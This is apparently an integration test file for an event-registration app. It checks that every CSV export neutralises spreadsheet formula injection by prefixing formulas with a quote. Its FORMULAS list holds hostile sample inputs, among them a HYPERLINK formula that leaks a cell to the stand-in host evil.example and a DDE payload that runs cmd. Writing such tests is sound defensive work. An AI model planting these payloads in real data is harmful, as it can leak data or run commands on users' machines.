import type { Event, Registration } from '@roundtable/contracts';
import { parse } from 'csv-parse/sync';
import { PackParts, type PackFile } from '../../src/pack/pack-parts';
import { aRegistrationInput } from '../support/builders';
import { aPublishedEvent, bearer } from '../support/registrations';
import { bootApp, tokenFor, type TestApp } from '../support/test-app';

/** What people type that a spreadsheet would run (OWASP's list, with the spaces and tabs that hide it). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Щракнете")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)',
  ' =1+1',
  '   @A1',
  '=1',
  '-2+3*cmd',
];

/** A cell a spreadsheet would evaluate: `= + - @` after any leading blanks, unless it is a plain signed number. */
const runsAsFormula = (cell: string) => {
  const start = cell.replace(/^\s+/, '');
  return /^[=+\-@]/.test(start) && !/^[+-]\d[\d .,]*$/.test(start.trimEnd());
};

/*
 * Every CSV the app writes (the registrations export, statistics.csv, and the CSVs inside the reporting pack)
 * keeps what people typed as text: the project's own rule (registrations/export/csv.ts) puts a `'` before a
 * formula, and leaves numbers such as `-5` and `+359 888 123 456` as typed.
 */
describe('CSV formula injection: every export neutralises what people typed', () => {
  let t: TestApp;
  let organiser: string;
  let event: Event;

  beforeAll(async () => {
    t = await bootApp();
    organiser = await tokenFor(t.http, 'organizer');
    event = await aPublishedEvent(t.http, organiser);
    let n = 0;
    for (const formula of FORMULAS) {
      const registration = (
        await t.http
          .post(`/api/events/${event.id}/registrations`)
          .send(
            aRegistrationInput({
              email: `formula-${++n}@example.org`,
              firstName: formula,
              lastName: formula,
              organization: formula,
              position: formula,
              accessibilityNeeds: `\t${formula}\r\n=2+2`,
            }),
          )
          .expect(201)
      ).body as Registration;
      await t.http.post(`/api/registrations/${registration.id}/check-in`).auth(organiser, bearer).send({});
    }
    // A plain phone number and a negative number stay as typed.
    await t.http
      .post(`/api/events/${event.id}/registrations`)
      .send(aRegistrationInput({ email: 'plain@example.org', phone: '+359 888 123 456', position: '-5' }))
      .expect(201);
    for (const formula of FORMULAS) {
      await t.http
        .post(`/api/events/${event.id}/materials`)
        .auth(organiser, bearer)
        .field('title', formula)
        .field('visibility', 'public')
        .attach('file', Buffer.from('%PDF-1.7\n%âãÏÓ\n' + 'x'.repeat(500)), {
          filename: `${formula.replace(/[^\w]/g, '')}.pdf`,
          contentType: 'application/octet-stream',
        })
        .expect(201);
    }
  });
  afterAll(() => t.close());

  /** Every cell of a CSV file, after checking none would run. */
  function expectNoFormula(name: string, text: string): string[] {
    const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
    expect({ name, formulas: cells.filter(runsAsFormula) }).toEqual({ name, formulas: [] });
    return cells;
  }

  it('the registrations export', async () => {
    const text = (await t.http.get(`/api/events/${event.id}/registrations.csv`).auth(organiser, bearer)).text;
    const cells = expectNoFormula('registrations.csv', text);
    // Text is trimmed on the way in (csv.spec.ts covers cells that start with blanks or a tab); the needs keep
    // their line break, and the formula on the second line is inside a quoted text cell that starts with `'`.
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula.trim()}`);
    const needs = cells.filter((cell) => cell.includes('\n=2+2'));
    expect(needs).toHaveLength(FORMULAS.length);
    for (const cell of needs) expect(cell).toMatch(/^'/);
    expect(cells).toContain('+359 888 123 456');
    expect(cells).toContain('-5');
  });

  it('statistics.csv', async () => {
    const response = await t.http
      .get(`/api/events/${event.id}/statistics.csv`)
      .auth(organiser, bearer)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expectNoFormula('statistics.csv', (response.body as Buffer).toString('utf8'));
  });

  it('the recommendations tracker (decision 0033)', async () => {
    const summary = await t.http
      .put(`/api/events/${event.id}/summary`)
      .auth(organiser, bearer)
      .send({
        body: 'Обобщение.',
        keyPoints: [],
        recommendations: FORMULAS.map((formula) => ({ text: formula, owner: formula, status: 'proposed' })),
      })
      .expect(200);
    const [first] = summary.body.recommendations as { id: string }[];
    await t.http
      .post(`/api/recommendations/${first.id}/status`)
      .auth(organiser, bearer)
      .send({ status: 'in-progress', note: FORMULAS[0] })
      .expect(200);
    const text = (await t.http.get(`/api/recommendations.csv?eventId=${event.id}`).auth(organiser, bearer))
      .text;
    const cells = expectNoFormula('recommendations.csv', text);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain(event.title);
  });

  it('the CSVs inside the reporting pack', async () => {
    const parts = t.app.get(PackParts);
    const csvs: PackFile[] = [];
    for (const step of ['registrations', 'materials', 'statistics'] as const) {
      const part = parts.part(step);
      expect({ step, registered: part !== null }).toEqual({ step, registered: true });
      for (const file of await (part as NonNullable<typeof part>)(event.id)) {
        if (file.name.endsWith('.csv')) csvs.push(file);
      }
    }
    expect(csvs.map((file) => file.name).sort()).toEqual([
      'materials.csv',
      'registrations.csv',
      'statistics.csv',
    ]);
    for (const file of csvs) {
      const chunks: Buffer[] = [];
      if (Buffer.isBuffer(file.body)) chunks.push(file.body);
      else for await (const chunk of await file.body()) chunks.push(Buffer.from(chunk as Buffer));
      const cells = expectNoFormula(file.name, Buffer.concat(chunks).toString('utf8'));
      if (file.name === 'materials.csv')
        for (const formula of FORMULAS) expect(cells).toContain(`'${formula.trim()}`);
    }
  });
});
